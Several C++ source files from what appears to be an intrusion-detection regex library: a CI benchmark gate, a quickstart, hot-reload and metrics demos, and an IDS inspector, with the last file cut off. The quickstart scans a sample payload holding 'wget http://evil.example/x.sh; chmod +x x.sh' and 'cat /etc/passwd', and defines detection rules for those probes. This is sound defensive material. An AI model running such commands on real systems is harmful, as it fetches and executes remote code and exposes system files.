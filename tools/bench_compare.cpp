// CI perf gate over mfa.bench.v1 reports (DESIGN.md Sec. 12).
//
// Two modes:
//
//   bench_compare --merge OUT.json IN.json...
//     Bundle individual bench reports into the checked-in baseline file
//     (schema mfa.bench-baseline.v1). Inputs are embedded verbatim so the
//     baseline diffs cleanly when regenerated.
//
//   bench_compare BASELINE.json CURRENT.json... [--tolerance PCT]
//     Compare fresh reports against the baseline: every (bench, set, trace,
//     engine, shards) row's cycles-per-byte, plus each bench's scan-latency
//     p99 derived from the embedded telemetry histograms. Exit 1 when any
//     metric regresses by more than the tolerance (default 15%) — generous
//     because CI machines are noisy; the gate is for order-of-magnitude
//     mistakes (an accidental O(n^2), a disabled fast path), not micro-drift.
//     Rows without a baseline counterpart are warned about and make the run
//     exit 2 (distinct from regression exit 1): an un-baselined row means
//     the baseline is stale and that measurement is not being gated, so the
//     fix is to regenerate BENCH_baseline.json, not to ignore the row.
//     Pass several runs of the same bench (both when building the baseline
//     and when comparing): duplicate rows keep the fastest measurement,
//     because scheduler noise is strictly one-sided.
//
// Dependency-free: ships its own minimal JSON reader (objects, arrays,
// strings, numbers, bools, null — the subset mfa.bench.v1 uses).
#include <cctype>
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <string>
#include <tuple>
#include <vector>

namespace {

// --- minimal JSON value + recursive-descent reader ---

struct Json {
  enum Kind { kNull, kBool, kNumber, kString, kArray, kObject } kind = kNull;
  bool boolean = false;
  double number = 0.0;
  std::string str;
  std::vector<Json> arr;
  std::vector<std::pair<std::string, Json>> obj;

  [[nodiscard]] const Json* find(const std::string& key) const {
    for (const auto& [k, v] : obj)
      if (k == key) return &v;
    return nullptr;
  }
  [[nodiscard]] double num_or(double fallback) const {
    return kind == kNumber ? number : fallback;
  }
  [[nodiscard]] std::string str_or(const std::string& fallback) const {
    return kind == kString ? str : fallback;
  }
};

class Parser {
 public:
  explicit Parser(const std::string& text) : s_(text) {}

  bool parse(Json& out) {
    skip_ws();
    if (!value(out)) return false;
    skip_ws();
    return pos_ == s_.size();
  }

 private:
  void skip_ws() {
    while (pos_ < s_.size() && std::isspace(static_cast<unsigned char>(s_[pos_])))
      ++pos_;
  }
  bool literal(const char* lit) {
    const std::size_t n = std::strlen(lit);
    if (s_.compare(pos_, n, lit) != 0) return false;
    pos_ += n;
    return true;
  }
  bool value(Json& out) {
    if (pos_ >= s_.size()) return false;
    switch (s_[pos_]) {
      case '{': return object(out);
      case '[': return array(out);
      case '"': out.kind = Json::kString; return string(out.str);
      case 't': out.kind = Json::kBool; out.boolean = true; return literal("true");
      case 'f': out.kind = Json::kBool; out.boolean = false; return literal("false");
      case 'n': out.kind = Json::kNull; return literal("null");
      default: return number(out);
    }
  }
  bool number(Json& out) {
    const char* start = s_.c_str() + pos_;
    char* end = nullptr;
    out.number = std::strtod(start, &end);
    if (end == start) return false;
    out.kind = Json::kNumber;
    pos_ += static_cast<std::size_t>(end - start);
    return true;
  }
  bool string(std::string& out) {
    if (s_[pos_] != '"') return false;
    ++pos_;
    out.clear();
    while (pos_ < s_.size()) {
      const char c = s_[pos_++];
      if (c == '"') return true;
      if (c != '\\') {
        out += c;
        continue;
      }
      if (pos_ >= s_.size()) return false;
      const char e = s_[pos_++];
      switch (e) {
        case '"': out += '"'; break;
        case '\\': out += '\\'; break;
        case '/': out += '/'; break;
        case 'b': out += '\b'; break;
        case 'f': out += '\f'; break;
        case 'n': out += '\n'; break;
        case 'r': out += '\r'; break;
        case 't': out += '\t'; break;
        case 'u': {  // keep it simple: decode Latin-1 range, else '?'
          if (pos_ + 4 > s_.size()) return false;
          const unsigned long cp = std::strtoul(s_.substr(pos_, 4).c_str(), nullptr, 16);
          pos_ += 4;
          out += cp < 256 ? static_cast<char>(cp) : '?';
          break;
        }
        default: return false;
      }
    }
    return false;  // unterminated
  }
  bool array(Json& out) {
    out.kind = Json::kArray;
    ++pos_;  // '['
    skip_ws();
    if (pos_ < s_.size() && s_[pos_] == ']') { ++pos_; return true; }
    while (true) {
      Json v;
      skip_ws();
      if (!value(v)) return false;
      out.arr.push_back(std::move(v));
      skip_ws();
      if (pos_ >= s_.size()) return false;
      if (s_[pos_] == ',') { ++pos_; continue; }
      if (s_[pos_] == ']') { ++pos_; return true; }
      return false;
    }
  }
  bool object(Json& out) {
    out.kind = Json::kObject;
    ++pos_;  // '{'
    skip_ws();
    if (pos_ < s_.size() && s_[pos_] == '}') { ++pos_; return true; }
    while (true) {
      skip_ws();
      std::string key;
      if (pos_ >= s_.size() || !string(key)) return false;
      skip_ws();
      if (pos_ >= s_.size() || s_[pos_] != ':') return false;
      ++pos_;
      skip_ws();
      Json v;
      if (!value(v)) return false;
      out.obj.emplace_back(std::move(key), std::move(v));
      skip_ws();
      if (pos_ >= s_.size()) return false;
      if (s_[pos_] == ',') { ++pos_; continue; }
      if (s_[pos_] == '}') { ++pos_; return true; }
      return false;
    }
  }

  const std::string& s_;
  std::size_t pos_ = 0;
};

bool read_file(const std::string& path, std::string& out) {
  std::FILE* f = std::fopen(path.c_str(), "rb");
  if (f == nullptr) return false;
  char buf[1 << 16];
  std::size_t n;
  out.clear();
  while ((n = std::fread(buf, 1, sizeof buf, f)) > 0) out.append(buf, n);
  std::fclose(f);
  return true;
}

bool parse_file(const std::string& path, Json& out) {
  std::string text;
  if (!read_file(path, text)) {
    std::fprintf(stderr, "bench_compare: cannot read %s\n", path.c_str());
    return false;
  }
  if (!Parser(text).parse(out)) {
    std::fprintf(stderr, "bench_compare: %s is not valid JSON\n", path.c_str());
    return false;
  }
  return true;
}

// --- report model ---

struct RowKey {
  std::string bench, set, trace, engine;
  long shards = 0;
  bool operator<(const RowKey& o) const {
    return std::tie(bench, set, trace, engine, shards) <
           std::tie(o.bench, o.set, o.trace, o.engine, o.shards);
  }
  [[nodiscard]] std::string label() const {
    return bench + "/" + set + "/" + trace + "/" + engine + "@" +
           std::to_string(shards);
  }
};

struct Extract {
  std::map<RowKey, double> cpb;        ///< per-row cycles per byte
  std::map<std::string, double> p99;   ///< per-bench scan-latency p99, ns
};

/// scan_ns p99 across all shards of an embedded telemetry snapshot:
/// merge the [upper_bound, count] bucket pairs, walk the cumulative count.
double telemetry_scan_p99(const Json& telemetry) {
  const Json* shards = telemetry.find("shards");
  if (shards == nullptr || shards->kind != Json::kArray) return 0.0;
  std::map<double, double> buckets;  // upper bound -> count
  double total = 0.0;
  for (const Json& shard : shards->arr) {
    const Json* h = shard.find("scan_ns");
    if (h == nullptr) continue;
    const Json* bs = h->find("buckets");
    if (bs == nullptr) continue;
    for (const Json& pair : bs->arr) {
      if (pair.arr.size() != 2) continue;
      buckets[pair.arr[0].num_or(0.0)] += pair.arr[1].num_or(0.0);
      total += pair.arr[1].num_or(0.0);
    }
  }
  if (total <= 0.0) return 0.0;
  const double target = 0.99 * total;
  double cumulative = 0.0;
  for (const auto& [bound, count] : buckets) {
    cumulative += count;
    if (cumulative >= target) return bound;
  }
  return buckets.rbegin()->first;
}

/// Pull gateable metrics out of one mfa.bench.v1 report.
bool extract_report(const Json& report, Extract& out, const char* path) {
  const Json* schema = report.find("schema");
  if (schema == nullptr || schema->str_or("") != "mfa.bench.v1") {
    std::fprintf(stderr, "bench_compare: %s lacks schema mfa.bench.v1\n", path);
    return false;
  }
  const std::string bench = report.find("bench") != nullptr
                                ? report.find("bench")->str_or("?")
                                : "?";
  if (const Json* results = report.find("results");
      results != nullptr && results->kind == Json::kArray) {
    for (const Json& row : results->arr) {
      RowKey key;
      key.bench = bench;
      if (const Json* v = row.find("set")) key.set = v->str_or("");
      if (const Json* v = row.find("trace")) key.trace = v->str_or("");
      if (const Json* v = row.find("engine")) key.engine = v->str_or("");
      if (const Json* v = row.find("shards"))
        key.shards = static_cast<long>(v->num_or(0));
      if (const Json* v = row.find("cycles_per_byte")) {
        // Duplicate keys (several runs of the same bench) keep the fastest:
        // scheduler noise only ever slows a run down, so min-of-N is the
        // best estimate of the true cost on both sides of the comparison.
        const auto [it, inserted] = out.cpb.emplace(key, v->num_or(0.0));
        if (!inserted && v->num_or(0.0) < it->second)
          it->second = v->num_or(0.0);
      }
    }
  }
  if (const Json* telemetry = report.find("telemetry")) {
    const double p99 = telemetry_scan_p99(*telemetry);
    if (p99 > 0.0) {
      const auto [it, inserted] = out.p99.emplace(bench, p99);
      if (!inserted && p99 < it->second) it->second = p99;
    }
  }
  return true;
}

/// Baseline file: either one report or the mfa.bench-baseline.v1 bundle.
bool extract_baseline(const Json& root, Extract& out, const char* path) {
  const Json* schema = root.find("schema");
  if (schema != nullptr && schema->str_or("") == "mfa.bench-baseline.v1") {
    const Json* reports = root.find("reports");
    if (reports == nullptr || reports->kind != Json::kArray) {
      std::fprintf(stderr, "bench_compare: %s has no reports array\n", path);
      return false;
    }
    for (const Json& r : reports->arr)
      if (!extract_report(r, out, path)) return false;
    return true;
  }
  return extract_report(root, out, path);
}

int merge(const std::string& out_path, const std::vector<std::string>& inputs) {
  std::string bundle = "{\"schema\":\"mfa.bench-baseline.v1\",\"reports\":[";
  for (std::size_t i = 0; i < inputs.size(); ++i) {
    std::string text;
    if (!read_file(inputs[i], text)) {
      std::fprintf(stderr, "bench_compare: cannot read %s\n", inputs[i].c_str());
      return 2;
    }
    Json parsed;
    Extract probe;  // validate schema + shape before embedding
    if (!Parser(text).parse(parsed) ||
        !extract_report(parsed, probe, inputs[i].c_str()))
      return 2;
    while (!text.empty() && (text.back() == '\n' || text.back() == '\r'))
      text.pop_back();
    if (i != 0) bundle += ",";
    bundle += text;
  }
  bundle += "]}\n";
  std::FILE* f = std::fopen(out_path.c_str(), "w");
  if (f == nullptr ||
      std::fwrite(bundle.data(), 1, bundle.size(), f) != bundle.size() ||
      std::fclose(f) != 0) {
    std::fprintf(stderr, "bench_compare: cannot write %s\n", out_path.c_str());
    return 2;
  }
  std::printf("bench_compare: merged %zu reports into %s\n", inputs.size(),
              out_path.c_str());
  return 0;
}

int compare(const std::string& baseline_path,
            const std::vector<std::string>& current_paths, double tolerance_pct) {
  Json baseline_json;
  if (!parse_file(baseline_path, baseline_json)) return 2;
  Extract baseline;
  if (!extract_baseline(baseline_json, baseline, baseline_path.c_str())) return 2;

  Extract current;
  for (const std::string& path : current_paths) {
    Json j;
    if (!parse_file(path, j)) return 2;
    if (!extract_report(j, current, path.c_str())) return 2;
  }

  const double limit = 1.0 + tolerance_pct / 100.0;
  int regressions = 0, checked = 0, fresh = 0;
  const auto verdict = [&](const std::string& label, const char* metric,
                           double base, double cur) {
    const double delta_pct = base > 0.0 ? (cur - base) / base * 100.0 : 0.0;
    const bool bad = base > 0.0 && cur > base * limit;
    std::printf("%-4s %-48s %-8s base %10.2f  now %10.2f  %+7.2f%%\n",
                bad ? "FAIL" : "ok", label.c_str(), metric, base, cur,
                delta_pct);
    ++checked;
    if (bad) ++regressions;
  };

  // A row with no baseline counterpart is NOT silently fine: it means the
  // checked-in baseline is stale (a renamed bench, a new engine/trace axis,
  // a bench added without regenerating BENCH_baseline.json) and every such
  // row is a measurement CI is not gating. Warn per row and exit 2 —
  // distinct from the regression exit 1 — so the pipeline surfaces
  // "baseline needs regenerating" instead of green-lighting blind spots.
  for (const auto& [key, cur_cpb] : current.cpb) {
    const auto it = baseline.cpb.find(key);
    if (it == baseline.cpb.end()) {
      std::fprintf(stderr,
                   "bench_compare: WARN no baseline row for %s (CpB %.2f "
                   "ungated; regenerate the baseline)\n",
                   key.label().c_str(), cur_cpb);
      ++fresh;
      continue;
    }
    verdict(key.label(), "CpB", it->second, cur_cpb);
  }
  for (const auto& [bench, cur_p99] : current.p99) {
    const auto it = baseline.p99.find(bench);
    if (it == baseline.p99.end()) {
      std::fprintf(stderr,
                   "bench_compare: WARN no baseline p99 for %s (%.0f ns "
                   "ungated; regenerate the baseline)\n",
                   bench.c_str(), cur_p99);
      ++fresh;
      continue;
    }
    verdict(bench, "p99ns", it->second, cur_p99);
  }

  std::printf("bench_compare: %d checked, %d new (ungated), %d regressions "
              "(tolerance %.0f%%)\n",
              checked, fresh, regressions, tolerance_pct);
  if (regressions != 0) return 1;
  return fresh != 0 ? 2 : 0;
}

}  // namespace

int main(int argc, char** argv) {
  double tolerance_pct = 15.0;
  bool merge_mode = false;
  std::vector<std::string> paths;
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    if (a == "--merge") merge_mode = true;
    else if (a == "--tolerance") {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "missing value for --tolerance\n");
        return 2;
      }
      tolerance_pct = std::atof(argv[++i]);
    } else if (a == "--help") {
      std::printf("usage:\n"
                  "  bench_compare --merge OUT.json IN.json...\n"
                  "  bench_compare BASELINE.json CURRENT.json..."
                  " [--tolerance PCT]\n");
      return 0;
    } else paths.push_back(a);
  }
  if (paths.size() < 2) {
    std::fprintf(stderr, "bench_compare: need at least two files (--help)\n");
    return 2;
  }
  if (merge_mode)
    return merge(paths.front(), {paths.begin() + 1, paths.end()});
  return compare(paths.front(), {paths.begin() + 1, paths.end()}, tolerance_pct);
}
