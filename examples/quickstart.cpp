// Quickstart: compile a handful of security patterns into a Match Filtering
// Automaton and scan a buffer.
//
//   $ ./quickstart
//
// Walks through the whole public API surface in ~40 lines: parse patterns,
// build the MFA, inspect the decomposition, scan, and read match results.
#include <cstdio>

#include "mfa/mfa.h"
#include "regex/parser.h"

int main() {
  using namespace mfa;

  // 1. A small rule set in the paper's idiom: dot-star, almost-dot-star,
  //    and a plain string, each reporting its own match id.
  const std::vector<std::string> rules = {
      ".*wget.*chmod",             // download-then-make-executable
      ".*User-Agent:[^\r\n]*sqlmap",  // scanner UA on one header line
      ".*etc/passwd",              // classic path probe
  };
  std::vector<nfa::PatternInput> patterns;
  for (std::size_t i = 0; i < rules.size(); ++i)
    patterns.push_back({regex::parse_or_die(rules[i]), static_cast<std::uint32_t>(i + 1)});

  // 2. Build the MFA: splitter -> piece DFA -> filter program.
  core::BuildStats stats;
  auto mfa = core::build_mfa(patterns, {}, &stats);
  if (!mfa) {
    std::fprintf(stderr, "construction failed (piece DFA exceeded the state cap)\n");
    return 1;
  }
  std::printf("built MFA in %.3fs: %u DFA states, %zu pieces, %u filter bits\n\n",
              stats.seconds, mfa->character_dfa().state_count(), mfa->pieces().size(),
              mfa->program().memory_bits);

  // 3. Show the decomposition the splitter chose.
  std::printf("decomposed pieces and filter actions:\n");
  for (const auto& piece : mfa->pieces()) {
    const auto& action = mfa->program().actions[piece.engine_id];
    std::printf("  piece %u: %-34s  %s\n", piece.engine_id, piece.regex.source.c_str(),
                action.to_pseudocode().c_str());
  }

  // 4. Scan a payload.
  const std::string payload =
      "GET /download?f=tool HTTP/1.1\r\n"
      "User-Agent: sqlmap/1.0-dev\r\n\r\n"
      "...wget http://evil.example/x.sh; chmod +x x.sh...cat /etc/passwd";
  core::MfaScanner scanner(*mfa);
  const MatchVec matches = scanner.scan(payload);

  std::printf("\nscanning %zu bytes -> %zu matches:\n", payload.size(), matches.size());
  for (const Match& m : matches)
    std::printf("  rule %u (%s) matched ending at offset %llu\n", m.id,
                rules[m.id - 1].c_str(), static_cast<unsigned long long>(m.end));
  return 0;
}
