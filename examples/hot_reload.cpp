// Live ruleset hot reload (DESIGN.md Sec. 10): a sharded inspector keeps
// scanning traffic while SIGHUP swaps in a recompiled rules file or a
// rebuilt MFAC artifact — the classic "kill -HUP the sensor after a rules
// push" workflow, with zero dropped packets across the swap.
//
//   $ ./hot_reload --rules local.rules          # reload source: rules file
//   $ ./hot_reload --artifact rules.mfac        # reload source: artifact
//   ... edit/rebuild the file, then: kill -HUP <pid>
//
//   $ ./hot_reload --demo                       # non-interactive self-test:
// writes a starter rules file, raises SIGHUP on itself mid-traffic with a
// grown ruleset in place, and reports per-generation match attribution.
// Old flows drain on their original generation (kDrainOld); flows opened
// after the swap match the new rules.
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <string>
#include <thread>
#include <vector>

#include "obs/metrics.h"
#include "pipeline/reload.h"

namespace {

volatile std::sig_atomic_t g_reload = 0;
volatile std::sig_atomic_t g_stop = 0;

void on_sighup(int) { g_reload = 1; }
void on_sigint(int) { g_stop = 1; }

constexpr const char* kRulesV1 =
    "alert tcp any any -> any any (msg:\"worm propagation\"; pcre:\"/.*worm77/\"; sid:1001;)\n";
constexpr const char* kRulesV2 =
    "alert tcp any any -> any any (msg:\"worm propagation\"; pcre:\"/.*worm77/\"; sid:1001;)\n"
    "alert tcp any any -> any any (msg:\"exfil beacon\"; pcre:\"/.*exfil9/\"; sid:1002;)\n";

bool write_file(const std::string& path, const char* text) {
  std::ofstream out(path, std::ios::trunc);
  out << text;
  return static_cast<bool>(out);
}

}  // namespace

int main(int argc, char** argv) {
  using namespace mfa;

  std::string rules_path, artifact_path;
  std::size_t shards = 2;
  int passes = 0;  // 0 = run until SIGINT
  bool demo = false;
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    if (a == "--rules" && i + 1 < argc) rules_path = argv[++i];
    else if (a == "--artifact" && i + 1 < argc) artifact_path = argv[++i];
    else if (a == "--shards" && i + 1 < argc) shards = std::strtoull(argv[++i], nullptr, 10);
    else if (a == "--passes" && i + 1 < argc) passes = std::atoi(argv[++i]);
    else if (a == "--demo") demo = true;
    else {
      std::printf("usage: hot_reload (--rules F | --artifact F | --demo)"
                  " [--shards N] [--passes N]\n");
      return 2;
    }
  }
  if (demo) {
    rules_path = "hot_reload_demo.rules";
    artifact_path.clear();
    if (passes == 0) passes = 6;
    if (!write_file(rules_path, kRulesV1)) {
      std::fprintf(stderr, "cannot write %s\n", rules_path.c_str());
      return 1;
    }
  }
  if (rules_path.empty() == artifact_path.empty()) {
    std::fprintf(stderr, "need exactly one of --rules / --artifact (or --demo)\n");
    return 2;
  }

  // One Source, reused by startup and by every SIGHUP: re-reads the file so
  // whatever was pushed since the last swap is what gets compiled/loaded.
  const pipeline::reload::HotSwapper<core::Mfa>::Source source =
      [&]() -> pipeline::reload::SourceResult<core::Mfa> {
    if (!rules_path.empty()) return pipeline::reload::compile_rules_file(rules_path);
    return pipeline::reload::load_artifact(artifact_path);
  };
  const std::string origin = rules_path.empty() ? artifact_path : rules_path;

  auto initial = source();
  if (!initial.first.has_value()) {
    std::fprintf(stderr, "%s\n", initial.second.c_str());
    return 1;
  }
  std::printf("loaded %s: %u DFA states, pid %d\n", origin.c_str(),
              initial.first->character_dfa().state_count(),
              static_cast<int>(getpid()));

  obs::MetricsRegistry metrics({.shards = shards});
  pipeline::Options opt;
  opt.shards = shards;
  opt.metrics = &metrics;
  opt.swap_policy = flow::SwapPolicy::kDrainOld;
  pipeline::ShardedInspector<core::Mfa> pipe(*initial.first, opt);
  pipeline::reload::RulesetRegistry<core::Mfa> registry;
  pipeline::reload::HotSwapper<core::Mfa> swapper(registry, pipe, &metrics);

  std::signal(SIGHUP, on_sighup);
  std::signal(SIGINT, on_sigint);
  pipe.start();
  if (!demo) std::printf("scanning; kill -HUP %d to reload %s, Ctrl-C to stop\n",
                         static_cast<int>(getpid()), origin.c_str());

  // Synthetic traffic: every pass opens fresh flows (so post-swap flows
  // adopt the newest generation) carrying both demo attack strings plus
  // clean filler.
  // Payloads outlive the loop: submit() queues pointers into them, and the
  // shard workers may scan a packet several passes after it was submitted.
  const std::string filler(512, '.');
  const std::string payloads[3] = {filler + "worm77" + filler,
                                   filler + "exfil9" + filler,
                                   filler + "eicar?" + filler};
  std::uint64_t reported_gen = 0;
  for (int pass = 0; (passes == 0 || pass < passes) && !g_stop; ++pass) {
    for (std::uint32_t i = 0; i < 64; ++i) {
      const std::string& payload = payloads[i % 3];
      const flow::FlowKey key{static_cast<std::uint32_t>(pass) << 8 | i, 80,
                              static_cast<std::uint16_t>(1000 + i), 80, 6};
      pipe.submit(flow::Packet{key, 0,
                               reinterpret_cast<const std::uint8_t*>(payload.data()),
                               static_cast<std::uint32_t>(payload.size())});
    }
    if (demo && pass == passes / 2) {
      std::printf("pass %d: pushing grown ruleset and raising SIGHUP\n", pass);
      if (!write_file(rules_path, kRulesV2))
        std::fprintf(stderr, "cannot rewrite %s\n", rules_path.c_str());
      std::raise(SIGHUP);
    }
    if (g_reload) {
      g_reload = 0;
      if (!swapper.swap_async(source, origin))
        std::printf("reload requested while one is in flight; ignored\n");
    }
    // Surface completed swaps (async: the report lands between passes).
    if (const auto report = swapper.last_report(); report && !swapper.busy()) {
      if (report->ok && report->generation > reported_gen) {
        reported_gen = report->generation;
        std::printf("pass %d: generation %llu live (%s, prepared in %.3fs)\n", pass,
                    static_cast<unsigned long long>(report->generation),
                    report->origin.c_str(), report->prepare_seconds);
      } else if (!report->ok && report->generation == 0 && reported_gen == 0) {
        std::printf("reload failed, keeping old rules: %s\n", report->error.c_str());
      }
    }
    if (demo) {
      // Let the workers drain so the demo's generation boundary is crisp.
      while (swapper.busy()) std::this_thread::yield();
    } else {
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
    }
  }
  swapper.join();
  pipe.finish();

  const auto totals = pipe.totals();
  std::printf("\nsubmitted %llu packets, scanned %llu, shed %llu, %llu matches\n",
              static_cast<unsigned long long>(totals.submitted),
              static_cast<unsigned long long>(totals.packets),
              static_cast<unsigned long long>(totals.shed_total()),
              static_cast<unsigned long long>(totals.matches));
  for (const auto& [gen, n] : totals.matches_by_generation)
    std::printf("  generation %llu: %llu matches\n",
                static_cast<unsigned long long>(gen),
                static_cast<unsigned long long>(n));
  const auto snap = metrics.snapshot();
  std::printf("telemetry: generation gauge %llu, %llu swaps\n",
              static_cast<unsigned long long>(snap.ruleset_generation),
              static_cast<unsigned long long>(snap.ruleset_swaps));
  if (demo) std::remove(rules_path.c_str());
  return 0;
}
