// Engine comparison: build NFA/DFA/HFA/XFA/MFA for one rule set and print a
// side-by-side of construction time, state count, memory image, per-flow
// context size, and throughput on a generated trace — a one-set miniature
// of the paper's whole evaluation.
//
//   $ ./engine_compare [set-name] [trace-bytes]
#include <cstdio>
#include <cstdlib>

#include "eval/harness.h"
#include "util/table.h"

int main(int argc, char** argv) {
  using namespace mfa;

  const std::string set_name = argc > 1 ? argv[1] : "C8";
  const std::size_t bytes = argc > 2 ? std::strtoull(argv[2], nullptr, 10) : 2 << 20;

  const patterns::PatternSet set = patterns::set_by_name(set_name);
  std::printf("=== %s: %zu patterns ===\n", set.name.c_str(), set.patterns.size());
  for (std::size_t i = 0; i < set.sources.size() && i < 5; ++i)
    std::printf("  %s\n", set.sources[i].c_str());
  if (set.sources.size() > 5) std::printf("  ... (%zu more)\n", set.sources.size() - 5);

  const eval::Suite suite = eval::build_suite(set);
  const auto exemplars = eval::attack_exemplars(set, 2, 31337);
  const trace::Trace t =
      trace::make_real_life(trace::RealLifeProfile::kCyberDefense, bytes, 31337, exemplars);

  util::TextTable table(
      {"Engine", "build s", "states", "image MB", "ctx bytes", "CpB", "matches"});
  const auto row = [&](const char* name, const eval::EngineBuild& build,
                       std::size_t ctx_bytes, const eval::Throughput& tp) {
    table.add_row({name, util::format_double(build.seconds, 3),
                   build.ok ? std::to_string(build.states) : "-",
                   build.ok ? util::format_bytes_mb(build.image_bytes, 3) : "-",
                   build.ok ? std::to_string(ctx_bytes) : "-",
                   build.ok ? util::format_double(tp.cycles_per_byte, 1) : "-",
                   build.ok ? std::to_string(tp.matches) : "-"});
  };

  row("NFA", suite.nfa_build, suite.nfa.context_bytes(),
      eval::measure_throughput(suite.nfa, t));
  if (suite.dfa) {
    row("DFA", suite.dfa_build, suite.dfa->context_bytes(),
        eval::measure_throughput(*suite.dfa, t));
  } else {
    row("DFA", suite.dfa_build, 0, {});
  }
  if (suite.hfa)
    row("HFA", suite.hfa_build, suite.hfa->context_bytes(),
        eval::measure_throughput(*suite.hfa, t));
  if (suite.xfa)
    row("XFA", suite.xfa_build, suite.xfa->context_bytes(),
        eval::measure_throughput(*suite.xfa, t));
  if (suite.mfa)
    row("MFA", suite.mfa_build, suite.mfa->context_bytes(),
        eval::measure_throughput(*suite.mfa, t));

  std::printf("\ntrace: %.2f MB, %zu packets\n\n",
              static_cast<double>(t.payload_bytes()) / (1024 * 1024), t.packet_count());
  std::fputs(table.to_string().c_str(), stdout);

  std::printf("\nsplit stats: %u/%u patterns decomposed, %u dot-star + %u "
              "almost-dot-star splits, %u boundaries kept whole\n",
              suite.mfa_stats.split.patterns_decomposed, suite.mfa_stats.split.patterns_in,
              suite.mfa_stats.split.dot_star_splits,
              suite.mfa_stats.split.almost_dot_star_splits,
              suite.mfa_stats.split.boundaries_rejected);
  return 0;
}
