// Live observability endpoint: a sharded MFA pipeline looping a traffic
// trace while serving its metrics, telemetry, profile and health verdict
// over HTTP on 127.0.0.1 (DESIGN.md Sec. 12). While it runs:
//
//   $ curl -s localhost:PORT/metrics         # Prometheus text format
//   $ curl -s localhost:PORT/telemetry.json  # mfa.telemetry.v1
//   $ curl -s localhost:PORT/profile.json    # mfa.profile.v1 (top-K rules)
//   $ curl -s localhost:PORT/healthz         # 200 ok / 503 overloaded
//
//   $ ./live_endpoint [--port 9100] [--duration 30] [--set C8] [--bytes N]
//
// --port 0 asks the kernel for a free port (printed at startup); --duration
// 0 runs until killed. Exit code 1 if the endpoint failed to start.
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <thread>

#include "eval/harness.h"
#include "obs/profile.h"

int main(int argc, char** argv) {
  using namespace mfa;

  int port = 9100;
  int duration_s = 30;
  std::string set_name = "C8";
  std::size_t bytes = 1 << 20;
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    if (a == "--port" && i + 1 < argc) port = std::atoi(argv[++i]);
    else if (a == "--duration" && i + 1 < argc) duration_s = std::atoi(argv[++i]);
    else if (a == "--set" && i + 1 < argc) set_name = argv[++i];
    else if (a == "--bytes" && i + 1 < argc)
      bytes = std::strtoull(argv[++i], nullptr, 10);
    else {
      std::printf("usage: live_endpoint [--port P] [--duration SECONDS]"
                  " [--set NAME] [--bytes N]\n");
      return 2;
    }
  }

  const patterns::PatternSet set = patterns::set_by_name(set_name);
  auto engine = core::build_mfa(set.patterns);
  if (!engine) {
    std::fprintf(stderr, "MFA construction failed\n");
    return 1;
  }
  const auto exemplars = eval::attack_exemplars(set, 2, 909);
  const trace::Trace t = trace::make_real_life(
      trace::RealLifeProfile::kCyberDefense, bytes, 909, exemplars);

  const std::size_t shards = 4;
  obs::MetricsRegistry registry({.shards = shards});
  obs::Profiler profiler({.rule_capacity = set.patterns.size() + 1,
                          .state_capacity = engine->state_count(),
                          .sample_shift = 6});
  // Rule names label /metrics (per-rule hit counters) and /profile.json
  // (the top-K expensive-rules table); ids are 1..n.
  std::vector<std::string> rule_names(set.sources.size() + 1);
  for (std::size_t i = 0; i < set.sources.size(); ++i)
    rule_names[i + 1] = set.sources[i];

  pipeline::Options opt;
  opt.shards = shards;
  opt.metrics = &registry;
  opt.profiler = &profiler;
  opt.http_port = port;
  opt.watchdog = true;
  pipeline::ShardedInspector<core::Mfa> pipe(*engine, opt);
  pipe.start();
  if (!pipe.http_running()) {
    std::fprintf(stderr, "HTTP endpoint failed to start on port %d\n", port);
    return 1;
  }
  std::printf("serving http://127.0.0.1:%u/{metrics,telemetry.json,"
              "profile.json,healthz} for %d s\n",
              pipe.http_port(), duration_s);
  std::fflush(stdout);  // CI tails this line to learn the bound port

  // Loop the trace until the clock runs out, pacing roughly to keep the
  // queues busy without shedding (this example demonstrates observability,
  // not overload).
  const auto deadline = std::chrono::steady_clock::now() +
                        std::chrono::seconds(duration_s);
  std::uint64_t loops = 0;
  do {
    t.for_each_packet([&](const flow::Packet& p) { pipe.submit(p); });
    ++loops;
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  } while (duration_s == 0 || std::chrono::steady_clock::now() < deadline);
  pipe.finish();

  const pipeline::ShardStats totals = pipe.totals();
  std::printf("done: %llu trace loops, %llu packets, %llu matches, "
              "%llu spans sampled\n",
              static_cast<unsigned long long>(loops),
              static_cast<unsigned long long>(totals.packets),
              static_cast<unsigned long long>(totals.matches),
              static_cast<unsigned long long>(
                  registry.snapshot().totals().spans_sampled));
  std::printf("\n%s\n",
              obs::profile_table(profiler.snapshot(), 5, &rule_names).c_str());
  return 0;
}
