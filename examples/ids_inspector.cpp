// IDS inspector: the paper's deployment scenario end to end — a Snort-style
// rule set compiled to an MFA, inspecting a multiplexed packet trace with
// per-flow (q, m) contexts and reporting alerts.
//
//   $ ./ids_inspector [--set S24] [--bytes 4194304] [--save trace.mftr]
//   $ ./ids_inspector --load trace.mftr
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>

#include "eval/harness.h"

int main(int argc, char** argv) {
  using namespace mfa;

  std::string set_name = "S24";
  std::size_t bytes = 4 << 20;
  std::string save_path, load_path;
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    if (a == "--set" && i + 1 < argc) set_name = argv[++i];
    else if (a == "--bytes" && i + 1 < argc) bytes = std::strtoull(argv[++i], nullptr, 10);
    else if (a == "--save" && i + 1 < argc) save_path = argv[++i];
    else if (a == "--load" && i + 1 < argc) load_path = argv[++i];
    else {
      std::printf("usage: ids_inspector [--set NAME] [--bytes N] [--save F | --load F]\n");
      return 2;
    }
  }

  const patterns::PatternSet set = patterns::set_by_name(set_name);
  std::printf("rule set %s: %zu patterns\n", set.name.c_str(), set.patterns.size());

  core::BuildStats stats;
  auto mfa = core::build_mfa(set.patterns, {}, &stats);
  if (!mfa) {
    std::fprintf(stderr, "MFA construction failed\n");
    return 1;
  }
  std::printf("MFA: %u states, %.2f MB image, %u filter bits, built in %.3fs\n",
              mfa->character_dfa().state_count(),
              static_cast<double>(mfa->memory_image_bytes()) / (1024 * 1024),
